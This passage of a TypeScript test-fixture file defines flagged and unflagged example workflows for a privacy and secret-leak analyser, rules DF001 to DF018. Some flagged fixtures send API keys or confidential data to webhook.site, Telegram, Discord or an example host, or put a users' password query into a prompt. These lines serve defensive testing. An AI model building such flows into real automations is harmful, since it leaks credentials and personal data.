/** Leaks, and what looks like one: where personal data and secrets go. */
import type { FlowNode } from '../../../app/workflow/model/flow.ts';
import { flow, step } from '../kit/flow.ts';
import {
  agent,
  approve,
  ask,
  askLocal,
  brain,
  call,
  judge,
  localBrain,
  mail,
  manual,
  openHook,
  post,
  script,
  set,
  signedHook,
  sql,
  tokenise,
} from '../kit/steps.ts';
import type { Adversary } from './cases.ts';
import {
  cond,
  health,
  iff,
  mask,
  mem,
  merge,
  named,
  noop,
  pick,
  rename,
  respond,
  restore,
  rows,
  secretHook,
  slack,
  split,
  sub,
  sw,
  table,
  vend,
} from './steps.ts';

export const data: Adversary = {
  DF001: {
    fires: [
      [
        'switch fallback not masked',
        flow(
          [openHook(), sw(), tokenise(['body.email']), ask('Hi {{ input.body.email }}')],
          ['hook > switch', 'switch.one > tokenise', 'tokenise > ask', 'switch.fallback > ask'],
        ),
      ],
      [
        'rest spread in script',
        flow(
          [openHook(), script('const { body, ...rest } = input; return { ...rest, ...body };'), ask('Hi {{ input.email }}')],
          ['hook > script', 'script > ask'],
        ),
      ],
      ['whole item', flow([openHook(), script('return { ...input, seen: true };'), ask('{{ input }}')], ['hook > script', 'script > ask'])],
      ['list wildcard', flow([openHook(rows), split('body.customers'), ask('{{ input.email }}')], ['hook > split', 'split > ask'])],
      [
        'merge by position',
        flow(
          [openHook(), set({ a: 'x' }, 'left', false), merge({ mode: 'position' }), ask('{{ input.body.email }}')],
          ['hook > left', 'left > merge.a', 'hook > merge.b', 'merge > ask'],
        ),
      ],
      [
        'custom base url of unknown vendor',
        flow(
          [openHook(), ask('{{ input.body.email }}', { provider: 'custom', baseUrl: 'https://llm.acme-models.example/v1' })],
          ['hook > ask'],
        ),
      ],
      [
        'ollama at a public host',
        flow(
          [openHook(), ask('{{ input.body.email }}', { provider: 'ollama', baseUrl: 'https://gpu.rented-box.net/v1', model: 'llama3' })],
          ['hook > ask'],
        ),
      ],
      [
        'plain HTTP call to a model api',
        flow(
          [
            openHook(),
            post(
              'https://api.openai.com/v1/chat/completions',
              '{"model":"gpt-4o-2024-08-06","messages":[{"role":"user","content":"{{ input.body.email }}"}]}',
            ),
          ],
          ['hook > call'],
        ),
      ],
      [
        'HTTP to anthropic with whole input',
        flow([openHook(), post('https://api.anthropic.com/v1/messages', '{{ input }}')], ['hook > call']),
      ],
      [
        'error way',
        flow(
          [openHook(), script('throw new Error("bad address " + input.body.email);'), ask('Explain {{ input.error }}')],
          ['hook > script', 'script -error> ask'],
        ),
      ],
      [
        'restore before model',
        flow(
          [openHook(), tokenise(['body.email']), restore(['body.email']), ask('{{ input.body.email }}')],
          ['hook > tokenise', 'tokenise > restore', 'restore > ask'],
        ),
      ],
      [
        'masked the other field',
        flow(
          [openHook([{ name: 'email' }, { name: 'phone' }]), mask('body.phone'), ask('{{ input.body.email }} {{ input.body.phone }}')],
          ['hook > mask', 'mask > ask'],
        ),
      ],
      ['system prompt', flow([openHook(), ask('Hi', { system: 'You help {{ input.body.email }}' })], ['hook > ask'])],
      [
        'read by node name past a mask',
        flow([openHook(), mask('body.email'), ask('{{ node["hook"].body.email }}')], ['hook > mask', 'mask > ask']),
      ],
      [
        'loop body',
        flow(
          [openHook(rows), step('loop', 'loop', { list: 'body.customers' }), ask('{{ input.email }}')],
          ['hook > loop.in', 'loop.loop > ask', 'ask > loop.back'],
        ),
      ],
      [
        'sub-flow two levels',
        named('main', flow([openHook(), sub({ who: '{{ input.body.email }}' }, 'mid')], ['hook > sub'])),
        {},
        [
          named('mid', flow([manual(), sub({ x: '{{ input.who }}' }, 'leaf')], ['start > sub'])),
          named('leaf', flow([manual(), ask('{{ input.x }}')], ['start > ask'])),
        ],
      ],
      [
        'data-table then read',
        flow(
          [
            openHook(),
            table('insert', { columns: [{ name: 'mail' }], values: [{ name: 'mail', value: '{{ input.body.email }}' }] }, 'put'),
            table('find', { columns: [{ name: 'mail', label: 'none' }] }, 'get'),
            ask('{{ input.mail }}'),
          ],
          ['hook > put', 'put > get', 'get > ask'],
        ),
      ],
      [
        'classify',
        flow(
          [
            openHook(),
            step('ask', 'classify', {
              model: 'gpt-4o-2024-08-06',
              text: '{{ input.body.email }}',
              classes: [{ name: 'a' }, { name: 'b' }],
            }),
          ],
          ['hook > ask'],
        ),
      ],
      [
        'extract',
        flow(
          [
            openHook(),
            step('ask', 'extract', {
              model: 'gpt-4o-2024-08-06',
              text: '{{ input.body.email }}',
              fields: [{ name: 'x', type: 'boolean' }],
            }),
          ],
          ['hook > ask'],
        ),
      ],
      [
        'quarantine is a model too',
        flow(
          [
            openHook(),
            step('ask', 'quarantine', {
              model: 'gpt-4o-2024-08-06',
              text: '{{ input.body.email }}',
              question: 'Is it fine?',
              fields: [{ name: 'ok', type: 'boolean' }],
            }),
          ],
          ['hook > ask'],
        ),
      ],
      [
        'mail trigger to agent',
        flow(
          [step('m', 'mail-trigger', {}), agent('Answer {{ input.from }}: {{ input.text }}'), brain()],
          ['m > agent', 'brain -model> agent'],
        ),
      ],
      [
        'vector store embedding',
        flow(
          [openHook(), step('v', 'vector-store', { operation: 'add', model: 'text-embedding-3-small', text: '{{ input.body.email }}' })],
          ['hook > v'],
        ),
      ],
      [
        'guardrail does not mask',
        flow(
          [openHook(), step('g', 'guardrail', { text: '{{ input.body.text }}' }), ask('{{ input.body.email }}')],
          ['hook > g', 'g.pass > ask'],
        ),
      ],
      [
        'hidden behind base64',
        flow([openHook(), script('return { b: btoa(input.body.email) };'), ask('{{ input.b }}')], ['hook > script', 'script > ask']),
      ],
      [
        'aggregate list',
        flow(
          [
            openHook(),
            step('agg', 'aggregate-items', { values: [{ aggregate: 'list', field: 'body.email', into: 'all' }] }),
            ask('{{ input.all }}'),
          ],
          ['hook > agg', 'agg > ask'],
        ),
      ],
      [
        'text step',
        flow(
          [openHook(), step('t', 'write-text', { text: 'Dear {{ input.body.email }}', into: 'letter' }), ask('{{ input.letter }}')],
          ['hook > t', 't > ask'],
        ),
      ],
    ],
    silent: [
      [
        'wildcard tokenised',
        flow(
          [openHook(rows), tokenise(['body.customers.*.email']), split('body.customers'), ask('{{ input.email }}')],
          ['hook > tokenise', 'tokenise > split', 'split > ask'],
        ),
      ],
      [
        'masked both branches',
        flow(
          [openHook(), iff(), tokenise(['body.email'], 't1'), mask('body.email'), ask('{{ input.body.email }}')],
          ['hook > if', 'if.true > t1', 'if.false > mask', 't1 > ask', 'mask > ask'],
        ),
      ],
      ['picked away', flow([openHook(), pick(['body.text']), ask('{{ input }}')], ['hook > pick', 'pick > ask'])],
      ['renamed over', flow([openHook(), set({ 'body.email': 'x' }), ask('{{ input.body.email }}')], ['hook > set', 'set > ask'])],
      [
        'script leaves out',
        flow(
          [openHook(), script('const { email, ...rest } = input.body; return rest;'), ask('{{ input }}')],
          ['hook > script', 'script > ask'],
        ),
      ],
      [
        'script delete',
        flow(
          [
            openHook(),
            script('const copy = { ...input.body }; delete copy.email; return copy;'),
            ask('{{ input.text }} {{ input.amount }}'),
          ],
          ['hook > script', 'script > ask'],
        ),
      ],
      [
        'internal host',
        flow([openHook(), ask('{{ input.body.email }}', { provider: 'custom', baseUrl: 'https://llm.corp.internal/v1' })], ['hook > ask']),
      ],
      [
        'private address',
        flow([openHook(), ask('{{ input.body.email }}', { provider: 'vllm', baseUrl: 'http://10.2.3.4:8000/v1' })], ['hook > ask']),
      ],
      ['disabled model', flow([openHook(), { ...ask('{{ input.body.email }}'), disabled: true }], ['hook > ask'])],
      [
        'only count',
        flow(
          [openHook(rows), script('return { n: input.body.customers.length };'), ask('{{ input.n }}')],
          ['hook > script', 'script > ask'],
        ),
      ],
      [
        'boolean of it',
        flow([openHook(), set({ has: '{{ input.body.email != "" }}' }, 'set', false), ask('{{ input.has }}')], ['hook > set', 'set > ask']),
      ],
      [
        'split other list',
        flow(
          [openHook([{ name: 'email' }, { name: 'items.*.sku', label: 'none' }]), split('body.items'), ask('{{ input.sku }}')],
          ['hook > split', 'split > ask'],
        ),
      ],
      [
        'erp lookup after model',
        flow(
          [openHook(), ask('{{ input.body.text }}'), call('https://api.example.com/x?e={{ node["hook"].body.email }}')],
          ['hook > ask', 'ask > call'],
        ),
      ],
    ],
  },
  DF002: {
    fires: [
      [
        'health to vendor crm',
        flow(
          [openHook(health), post('https://acme.zendesk.com/api/v2/tickets', '{ "t": "{{ input.body.patient.diagnosis }}" }')],
          ['hook > call'],
        ),
        vend([{ name: 'Slack', dpa: true }]),
      ],
      [
        'health in script text',
        flow(
          [openHook(health), script('return { t: JSON.stringify(input.body.patient) };'), ask('{{ input.t }}')],
          ['hook > script', 'script > ask'],
        ),
        vend([]),
      ],
      [
        'special label; baa only',
        flow([openHook([{ name: 'religion', label: 'special' }]), ask('{{ input.body.religion }}')], ['hook > ask']),
        vend([{ name: 'OpenAI', baa: true }]),
      ],
    ],
    silent: [
      [
        'has dpa',
        flow([openHook(health), ask('{{ input.body.patient.diagnosis }}')], ['hook > ask']),
        vend([{ name: 'OpenAI', dpa: true, baa: true }]),
      ],
      [
        'tokenised',
        flow(
          [openHook(health), tokenise(['body.patient.diagnosis']), ask('{{ input.body.patient.diagnosis }}')],
          ['hook > tokenise', 'tokenise > ask'],
        ),
        vend([]),
      ],
      [
        'stays inside',
        flow([openHook(health), post('https://ehr.hospital.internal/x', '{{ input.body.patient }}')], ['hook > call']),
        vend([]),
      ],
    ],
  },
  DF003: {
    fires: [
      [
        'pieces put together',
        flow(
          [
            openHook(secretHook),
            script(
              'const parts = [input.body.key.slice(0,4), input.body.key.slice(4)]; return { u: "https://x.example.com/?k=" + parts.join("") };',
            ),
            call('{{ input.u }}'),
          ],
          ['hook > script', 'script > call'],
        ),
      ],
      ['to slack', flow([openHook(secretHook), slack('key: {{ input.body.key }}')], ['hook > slack'])],
      [
        'in mail subject',
        flow(
          [
            openHook(secretHook),
            step('mail', 'send-mail', { from: 'a@example.com', to: 'b@example.com', subject: '{{ input.body.key }}', text: 'x' }),
          ],
          ['hook > mail'],
        ),
      ],
      ['path segment', flow([openHook(secretHook), call('https://api.example.com/v1/{{ input.body.key }}/x')], ['hook > call'])],
      [
        'query list',
        flow(
          [openHook(secretHook), call('https://api.example.com/v1', { query: [{ name: 'k', value: '{{ input.body.key }}' }] })],
          ['hook > call'],
        ),
      ],
      ['answer to caller', flow([openHook(secretHook), respond('{{ input }}')], ['hook > respond'])],
      [
        'error message',
        flow(
          [openHook(secretHook), script('throw new Error("denied for " + input.body.key)'), slack('{{ input.error }}')],
          ['hook > script', 'script -error> slack'],
        ),
      ],
      [
        'password from table to prompt',
        flow([manual(), sql('SELECT password FROM users'), askLocal('{{ input.password }}')], ['start > sql', 'sql > ask']),
      ],
      [
        'memory part',
        flow(
          [openHook(secretHook), agent('x {{ input.body.key }}'), localBrain(), mem()],
          ['hook > agent', 'brain -model> agent', 'mem -memory> agent'],
        ),
      ],
      ['stop message', flow([openHook(secretHook), slack('Failed: {{ input.body }}')], ['hook > slack'])],
    ],
    silent: [
      [
        'in a header',
        flow(
          [
            openHook(secretHook),
            call('https://api.example.com/x', { headers: [{ name: 'Authorization', value: 'Bearer {{ input.body.key }}' }] }),
          ],
          ['hook > call'],
        ),
      ],
      [
        'tokenised first',
        flow([openHook(secretHook), tokenise(['body.key']), askLocal('{{ input.body.key }}')], ['hook > tokenise', 'tokenise > ask']),
      ],
      ['masked then slack', flow([openHook(secretHook), mask('body.key'), slack('{{ input.body.key }}')], ['hook > mask', 'mask > slack'])],
      ['other field', flow([openHook(secretHook), slack('{{ input.body.text }}')], ['hook > slack'])],
      [
        'script only compares',
        flow(
          [openHook(secretHook), script('return { ok: input.body.key === "x" };'), slack('{{ input.ok }}')],
          ['hook > script', 'script > slack'],
        ),
      ],
      [
        'respond with part',
        flow(
          [openHook(secretHook), script('const { key, ...rest } = input.body; return rest;'), respond('{{ input }}')],
          ['hook > script', 'script > respond'],
        ),
      ],
    ],
  },
  DF004: {
    fires: [
      [
        'agent with mail read + crm + http tool',
        flow(
          [
            step('m', 'mail-trigger', {}),
            agent('{{ input.text }}'),
            localBrain(),
            sql('SELECT name, email FROM customers'),
            call('https://{{ model.host }}/x', {}, 'web'),
          ],
          ['m > agent', 'brain -model> agent', 'sql -tool> agent', 'web -tool> agent'],
        ),
      ],
      [
        'two models in a row',
        flow(
          [
            openHook([{ name: 'text', label: 'none' }]),
            askLocal('Plan: {{ input.body.text }}', { resultField: 'plan' }, 'plan'),
            sql('SELECT iban FROM accounts', { columns: [{ name: 'iban' }] }),
            askLocal('{{ node["plan"].plan }} {{ input.iban }}', {}, 'ask'),
            post('https://hooks.example.org/x', '{ "t": "{{ input.answer }}" }', { effect: 'send' }),
          ],
          ['hook > plan', 'plan > sql', 'sql > ask', 'ask > call'],
        ),
      ],
      [
        'answered over rss and slack',
        flow(
          [
            step('rss', 'rss-read', { address: 'https://news.example.org/feed' }),
            sql('SELECT salary, name FROM staff', { columns: [{ name: 'name' }, { name: 'salary', label: 'confidential' }] }),
            askLocal('{{ node["rss"].title }} {{ input.name }}'),
            mail('{{ input.answer }}', '{{ input.answer }}'),
          ],
          ['rss > sql', 'sql > ask', 'ask > mail'],
        ),
      ],
    ],
    silent: [
      [
        'way out approved',
        flow(
          [
            openHook([{ name: 'text', label: 'none' }]),
            sql('SELECT iban FROM accounts', { columns: [{ name: 'iban' }] }),
            askLocal('{{ node["hook"].body.text }} {{ input.iban }}'),
            approve(['answer']),
            mail('x@example.com', '{{ input.answer }}'),
          ],
          ['hook > sql', 'sql > ask', 'ask > approve', 'approve.approved > mail'],
        ),
      ],
      [
        'closed answer',
        flow(
          [
            openHook([{ name: 'text', label: 'none' }]),
            sql('SELECT iban FROM accounts', { columns: [{ name: 'iban' }] }),
            judge('{{ node["hook"].body.text }} {{ input.iban }}'),
            post('https://api.example.com/x', '{ "ok": "{{ input.answer.ok }}" }'),
          ],
          ['hook > sql', 'sql > ask', 'ask > call'],
        ),
      ],
      [
        'partner content',
        flow(
          [
            signedHook([{ name: 'text', label: 'none' }]),
            sql('SELECT iban FROM accounts', { columns: [{ name: 'iban' }] }),
            askLocal('{{ node["hook"].body.text }} {{ input.iban }}'),
            post('https://api.example.com/x', '{{ input.answer }}'),
          ],
          ['hook > sql', 'sql > ask', 'ask > call'],
        ),
      ],
    ],
  },
  DF005: {
    fires: [
      [
        'vector store joins',
        named(
          'main',
          flow(
            [
              manual(),
              agent('Answer from what is known'),
              localBrain(),
              step('v', 'vector-store', { operation: 'search', store: 'kb', model: 'nomic', provider: 'ollama', text: '{{ model.q }}' }),
              sql('SELECT email FROM customers'),
              post('https://api.example.org/x', '{{ model.text }}', {}, 'web'),
            ],
            ['start > agent', 'brain -model> agent', 'v -tool> agent', 'sql -tool> agent', 'web -tool> agent'],
          ),
        ),
        {},
        [
          named(
            'writer',
            flow(
              [
                openHook([{ name: 'text', label: 'none' }]),
                step('v', 'vector-store', {
                  operation: 'add',
                  store: 'kb',
                  model: 'nomic',
                  provider: 'ollama',
                  text: '{{ input.body.text }}',
                }),
              ],
              ['hook > v'],
            ),
          ),
        ],
      ],
      [
        'memory same key',
        named(
          'main',
          flow(
            [
              manual(),
              agent('Do it'),
              localBrain(),
              mem('shared'),
              sql('SELECT email FROM customers'),
              mail('x@example.org', '{{ model.text }}'),
            ],
            ['start > agent', 'brain -model> agent', 'mem -memory> agent', 'sql -tool> agent', 'mail -tool> agent'],
          ),
        ),
        {},
        [
          named(
            'writer',
            flow(
              [openHook([{ name: 'text', label: 'none' }]), agent('{{ input.body.text }}'), localBrain(), mem('shared')],
              ['hook > agent', 'brain -model> agent', 'mem -memory> agent'],
            ),
          ),
        ],
      ],
    ],
    silent: [
      [
        'another store',
        named(
          'main',
          flow(
            [
              manual(),
              agent('Do it'),
              localBrain(),
              mem('own'),
              sql('SELECT email FROM customers'),
              mail('x@example.org', '{{ model.text }}'),
            ],
            ['start > agent', 'brain -model> agent', 'mem -memory> agent', 'sql -tool> agent', 'mail -tool> agent'],
          ),
        ),
        {},
        [
          named(
            'writer',
            flow(
              [openHook([{ name: 'text', label: 'none' }]), agent('{{ input.body.text }}'), localBrain(), mem('shared')],
              ['hook > agent', 'brain -model> agent', 'mem -memory> agent'],
            ),
          ),
        ],
      ],
      [
        'trusted writer',
        named(
          'main',
          flow(
            [
              manual(),
              agent('Do it'),
              localBrain(),
              mem('shared'),
              sql('SELECT email FROM customers'),
              mail('x@example.org', '{{ model.text }}'),
            ],
            ['start > agent', 'brain -model> agent', 'mem -memory> agent', 'sql -tool> agent', 'mail -tool> agent'],
          ),
        ),
        {},
        [
          named(
            'writer',
            flow([manual(), agent('hello'), localBrain(), mem('shared')], ['start > agent', 'brain -model> agent', 'mem -memory> agent']),
          ),
        ],
      ],
    ],
  },
  DF006: {
    fires: [
      [
        'whole record to api, one field needed by prompt',
        flow(
          [
            openHook([{ name: 'email' }, { name: 'phone' }, { name: 'iban' }, { name: 'text', label: 'none' }]),
            post('https://crm.example.com/x', '{{ input }}'),
          ],
          ['hook > call'],
        ),
      ],
      [
        'script spreads',
        flow(
          [
            openHook([{ name: 'email' }, { name: 'phone' }, { name: 'iban' }, { name: 'text', label: 'none' }]),
            script('return { ...input };'),
            ask('{{ input }}'),
          ],
          ['hook > script', 'script > ask'],
        ),
      ],
    ],
    silent: [
      [
        'picked',
        flow(
          [
            openHook([{ name: 'email' }, { name: 'phone' }, { name: 'iban' }]),
            pick(['body.email']),
            post('https://crm.example.com/x', '{{ input.body.email }}'),
          ],
          ['hook > pick', 'pick > call'],
        ),
      ],
      [
        'one field used',
        flow(
          [
            openHook([{ name: 'email' }, { name: 'phone' }, { name: 'iban' }]),
            post('https://crm.example.com/x', '{ "e": "{{ input.body.email }}" }'),
          ],
          ['hook > call'],
        ),
      ],
    ],
  },
  DF007: {
    fires: [
      ['redaction off', flow([openHook(health), noop()], ['hook > noop'], { settings: { redactRunData: false } })],
      [
        'redaction off, secret from sql',
        flow([manual(), sql('SELECT password FROM users')], ['start > sql'], { settings: { redactRunData: false } }),
      ],
    ],
    silent: [
      ['default', flow([openHook(health), noop()], ['hook > noop'])],
      [
        'nothing personal',
        flow([openHook([{ name: 'n', type: 'number', label: 'none' }]), noop()], ['hook > noop'], { settings: { redactRunData: false } }),
      ],
    ],
  },
  DF008: {
    fires: [
      [
        'confidential to telegram',
        flow([sqlC(), post('https://api.telegram.org/botX/sendMessage', '{ "t": "{{ input.margin }}" }')], ['sql > call']),
      ],
      [
        'discord through script',
        flow(
          [sqlC(), script('return { content: `Margin ${input.margin}` };'), post('https://discord.com/api/webhooks/1/abc', '{{ input }}')],
          ['sql > script', 'script > call'],
        ),
      ],
      ['webhook.site', flow([sqlC(), post('https://webhook.site/abc', '{{ input }}')], ['sql > call'])],
    ],
    silent: [
      ['to slack (business)', flow([sqlC(), slack('{{ input.margin }}')], ['sql > slack'])],
      [
        'public data to discord',
        flow(
          [openHook([{ name: 'text', label: 'none' }]), post('https://discord.com/api/webhooks/1/abc', '{{ input.body.text }}')],
          ['hook > call'],
        ),
      ],
      [
        'masked',
        flow([sqlC(), mask('margin'), post('https://discord.com/api/webhooks/1/abc', '{{ input.margin }}')], ['sql > mask', 'mask > call']),
      ],
    ],
  },
  DF009: {
    fires: [
      [
        'us bucket by host',
        flow(
          [
            openHook(),
            step('s3', 's3-storage', {
              endpoint: 'https://s3.us-east-1.amazonaws.com',
              bucket: 'b',
              operation: 'write',
              key: 'x',
              content: '{{ input.body.email }}',
            }),
          ],
          ['hook > s3'],
        ),
      ],
      [
        'cn vendor',
        flow(
          [
            openHook(),
            ask('{{ input.body.email }}', { provider: 'custom', baseUrl: 'https://api.deepseek.com/v1', model: 'deepseek-chat' }),
          ],
          ['hook > ask'],
        ),
      ],
      ['us api by name', flow([openHook(), post('https://api.us.acme.example/x', '{{ input.body }}')], ['hook > call'])],
    ],
    silent: [
      [
        'eu bucket',
        flow(
          [
            openHook(),
            step('s3', 's3-storage', {
              endpoint: 'https://s3.eu-central-1.amazonaws.com',
              bucket: 'b',
              operation: 'write',
              key: 'x',
              content: '{{ input.body.email }}',
            }),
          ],
          ['hook > s3'],
        ),
      ],
      [
        'mistral is EU',
        flow(
          [
            openHook(),
            ask('{{ input.body.email }}', { provider: 'custom', baseUrl: 'https://api.mistral.ai/v1', model: 'mistral-large-2411' }),
          ],
          ['hook > ask'],
        ),
      ],
      [
        'no person data',
        flow(
          [
            openHook(),
            ask('{{ input.body.text }}', { provider: 'custom', baseUrl: 'https://api.deepseek.com/v1', model: 'deepseek-chat' }),
          ],
          ['hook > ask'],
        ),
      ],
      ['dpa... us flow', flow([openHook(), ask('{{ input.body.email }}')], ['hook > ask'], { region: 'us' })],
    ],
  },
  DF010: {
    fires: [
      [
        'collected for orders, used for ads',
        flow([step('c', 'test-customers', { purpose: 'order handling' }), mail('{{ input.email }}', 'Buy')], ['c > mail'], {
          purpose: 'Advertising campaign',
        }),
      ],
    ],
    silent: [
      [
        'same purpose',
        flow([step('c', 'test-customers', { purpose: 'order handling' }), mail('{{ input.email }}', 'Your order')], ['c > mail'], {
          purpose: 'Order handling',
        }),
      ],
      [
        'not used',
        flow(
          [
            step('c', 'test-customers', { purpose: 'order handling' }),
            set({ x: '1' }, 'set', false),
            mail('x@example.com', '{{ input.x }}'),
          ],
          ['c > set', 'set > mail'],
          { purpose: 'Advertising campaign' },
        ),
      ],
    ],
  },
  DF011: {
    fires: [
      [
        'gate on one way',
        flow(
          [
            openHook([
              { name: 'email', consent: true },
              { name: 'amount', type: 'number' },
            ]),
            iff(),
            step('gate', 'consent-gate', { purpose: 'news' }),
            mail('{{ input.body.email }}', 'News'),
          ],
          ['hook > if', 'if.true > gate', 'gate.given > mail', 'if.false > mail'],
        ),
      ],
      [
        'renamed and scripted',
        flow(
          [
            openHook([{ name: 'email', consent: true }]),
            script('return { to: input.body.email.toLowerCase() };'),
            mail('{{ input.to }}', 'News'),
          ],
          ['hook > script', 'script > mail'],
        ),
      ],
      [
        'whole to crm',
        flow([openHook([{ name: 'email', consent: true }]), post('https://api.hubapi.com/x', '{{ input }}')], ['hook > call']),
      ],
    ],
    silent: [
      [
        'gate',
        flow(
          [
            openHook([{ name: 'email', consent: true }]),
            step('gate', 'consent-gate', { purpose: 'news' }),
            mail('{{ input.body.email }}', 'News'),
          ],
          ['hook > gate', 'gate.given > mail'],
        ),
      ],
      [
        'other field',
        flow(
          [
            openHook([
              { name: 'email', consent: true },
              { name: 'text', label: 'none' },
            ]),
            mail('x@example.com', '{{ input.body.text }}'),
          ],
          ['hook > mail'],
        ),
      ],
      [
        'masked',
        flow(
          [openHook([{ name: 'email', consent: true }]), mask('body.email'), post('https://api.hubapi.com/x', '{{ input.body.email }}')],
          ['hook > mask', 'mask > call'],
        ),
      ],
    ],
  },
  DF012: {
    fires: [
      [
        'another database heeds no days of the flow',
        flow(
          [openHook(), sql('INSERT INTO p (m) VALUES (:m)', { readOnly: false, values: [{ name: 'm', value: '{{ input.body.email }}' }] })],
          ['hook > sql'],
          { settings: { retentionDays: 30 } },
        ),
      ],
      [
        'data table keeps for ever',
        flow([openHook(), table('insert', { values: [{ name: 'm', value: '{{ input.body.email }}' }] })], ['hook > table']),
      ],
      [
        'vector store',
        flow(
          [openHook(), step('v', 'vector-store', { operation: 'add', provider: 'ollama', model: 'nomic', text: '{{ input.body.email }}' })],
          ['hook > v'],
        ),
      ],
      [
        'memory',
        flow(
          [openHook(), agent('{{ input.body.email }}'), localBrain(), mem('c', 'mem', { retentionDays: 0 })],
          ['hook > agent', 'brain -model> agent', 'mem -memory> agent'],
        ),
      ],
      ['file', flow([openHook(), step('w', 'file-write', { path: '/data/x.txt', content: '{{ input.body.email }}' })], ['hook > w'])],
    ],
    silent: [
      [
        'keepDays',
        flow([openHook(), table('insert', { keepDays: 30, values: [{ name: 'm', value: '{{ input.body.email }}' }] })], ['hook > table']),
      ],
      ['no person', flow([openHook(), table('insert', { values: [{ name: 'm', value: '{{ input.body.text }}' }] })], ['hook > table'])],
      [
        'flow retention',
        flow([openHook(), table('insert', { values: [{ name: 'm', value: '{{ input.body.email }}' }] })], ['hook > table'], {
          settings: { retentionDays: 30 },
        }),
      ],
    ],
  },
  DF013: {
    fires: [
      [
        'sql',
        flow(
          [openHook(), sql('INSERT INTO p (m) VALUES (:m)', { readOnly: false, values: [{ name: 'm', value: '{{ input.body.email }}' }] })],
          ['hook > sql'],
          { settings: { retentionDays: 30 } },
        ),
        { policy: { organisation: { flows: [], erasable: [] } }, around: { flows: [], whole: true } },
      ],
    ],
    silent: [
      [
        'no person',
        flow(
          [openHook(), sql('INSERT INTO p (m) VALUES (:m)', { readOnly: false, values: [{ name: 'm', value: '{{ input.body.text }}' }] })],
          ['hook > sql'],
        ),
        { policy: { organisation: { flows: [], erasable: [] } } },
      ],
    ],
  },
  DF014: {
    fires: [
      [
        'restored then hubspot',
        flow(
          [
            openHook(),
            tokenise(['body.email']),
            ask('{{ input.body.email }}'),
            restore(['body.email']),
            post('https://api.hubapi.com/x', '{{ input.body }}'),
          ],
          ['hook > tokenise', 'tokenise > ask', 'ask > restore', 'restore > call'],
        ),
      ],
      [
        'restored, renamed, then google',
        flow(
          [
            openHook(),
            tokenise(['body.email']),
            restore(['body.email']),
            rename('body.email', 'who'),
            post('https://sheets.googleapis.com/x', '{{ input.who }}'),
          ],
          ['hook > tokenise', 'tokenise > restore', 'restore > rename', 'rename > call'],
        ),
      ],
    ],
    silent: [
      [
        'restored for mail',
        flow(
          [
            openHook(),
            tokenise(['body.email']),
            ask('{{ input.body.text }}'),
            restore(['body.email']),
            mail('{{ input.body.email }}', 'x'),
          ],
          ['hook > tokenise', 'tokenise > ask', 'ask > restore', 'restore > mail'],
        ),
      ],
      [
        'restored after',
        flow(
          [openHook(), tokenise(['body.email']), post('https://api.hubapi.com/x', '{{ input.body.email }}'), restore(['body.email'])],
          ['hook > tokenise', 'tokenise > call', 'call > restore'],
        ),
      ],
    ],
  },
  DF015: {
    fires: [
      [
        'all three beside hash',
        flow(
          [
            openHook([{ name: 'postcode' }, { name: 'birthDate', type: 'date' }, { name: 'sex' }, { name: 'customerId', label: 'id' }]),
            mask('body.customerId', 'hash'),
            post('https://api.hubapi.com/x', '{{ input.body }}'),
          ],
          ['hook > mask', 'mask > call'],
        ),
      ],
      [
        'in German',
        flow(
          [
            openHook([{ name: 'plz' }, { name: 'geburtsdatum', type: 'date' }, { name: 'geschlecht' }, { name: 'email' }]),
            tokenise(['body.email']),
            ask('{{ input.body }}'),
          ],
          ['hook > tokenise', 'tokenise > ask'],
        ),
      ],
    ],
    silent: [
      [
        'no sex',
        flow(
          [
            openHook([{ name: 'postcode' }, { name: 'birthDate', type: 'date' }, { name: 'customerId', label: 'id' }]),
            mask('body.customerId', 'hash'),
            post('https://api.hubapi.com/x', '{{ input.body }}'),
          ],
          ['hook > mask', 'mask > call'],
        ),
      ],
      [
        'postcode masked',
        flow(
          [
            openHook([{ name: 'postcode' }, { name: 'birthDate', type: 'date' }, { name: 'sex' }, { name: 'customerId', label: 'id' }]),
            step('mask', 'mask', {
              fields: [
                { path: 'body.customerId', method: 'hash' },
                { path: 'body.postcode', method: 'redact' },
              ],
            }),
            post('https://api.hubapi.com/x', '{{ input.body }}'),
          ],
          ['hook > mask', 'mask > call'],
        ),
      ],
    ],
  },
  DF016: {
    fires: [
      ['webhook without fields', flow([openHook([]), noop()], ['hook > noop'])],
      ['http without response fields', flow([manual(), call('https://api.example.com/x'), noop()], ['start > call', 'call > noop'])],
    ],
    silent: [
      ['declared', flow([signedHook(), noop()], ['hook > noop'])],
      ['manual with fields', flow([step('start', 'manual-trigger', { fields: [{ name: 'a' }] }), noop()], ['start > noop'])],
    ],
  },
  DF017: {
    fires: [
      [
        'bank in, answer to vendor',
        flow(
          [sqlBank(), askLocal('Sum up {{ input.iban }}'), post('https://api.hubapi.com/x', '{ "n": "{{ input.answer }}" }')],
          ['sql > ask', 'ask > call'],
        ),
      ],
      [
        'through script',
        flow(
          [sqlBank(), askLocal('Sum up {{ input.iban }}'), script('return { note: `AI: ${input.answer}` };'), slack('{{ input.note }}')],
          ['sql > ask', 'ask > script', 'script > slack'],
        ),
      ],
    ],
    silent: [
      [
        'closed',
        flow(
          [
            sqlBank(),
            askLocal('{{ input.iban }}', { output: 'schema', schema: [{ name: 'ok', type: 'boolean' }] }),
            slack('{{ input.answer.ok }}'),
          ],
          ['sql > ask', 'ask > slack'],
        ),
      ],
      [
        'inside',
        flow(
          [sqlBank(), askLocal('{{ input.iban }}'), post('https://erp.corp.internal/x', '{{ input.answer }}')],
          ['sql > ask', 'ask > call'],
        ),
      ],
      [
        'approved',
        flow(
          [sqlBank(), askLocal('{{ input.iban }}'), approve(['answer']), slack('{{ input.answer }}')],
          ['sql > ask', 'ask > approve', 'approve.approved > slack'],
        ),
      ],
    ],
  },
  DF018: {
    fires: [
      ['in path', flow([signedHook(), call('https://api.example.com/users/{{ input.body.email }}')], ['hook > call'])],
      [
        'query row',
        flow(
          [signedHook(), call('https://api.example.com/users', { query: [{ name: 'q', value: '{{ input.body.email }}' }] })],
          ['hook > call'],
        ),
      ],
      [
        'built in script',
        flow(
          [
            signedHook(),
            script(
              'const u = new URL("https://api.example.com/u"); u.searchParams.set("m", input.body.email); return { url: u.toString() };',
            ),
            call('{{ input.url }}'),
          ],
          ['hook > script', 'script > call'],
        ),
      ],
      [
        'encodeURIComponent',
        flow(
          [signedHook(), script('return { q: encodeURIComponent(input.body.email) };'), call('https://api.example.com/u?q={{ input.q }}')],
          ['hook > script', 'script > call'],
        ),
      ],
      [
        's3 key',
        flow(
          [
            signedHook(),
            step('s3', 's3-storage', {
              endpoint: 'https://s3.eu-central-1.amazonaws.com',
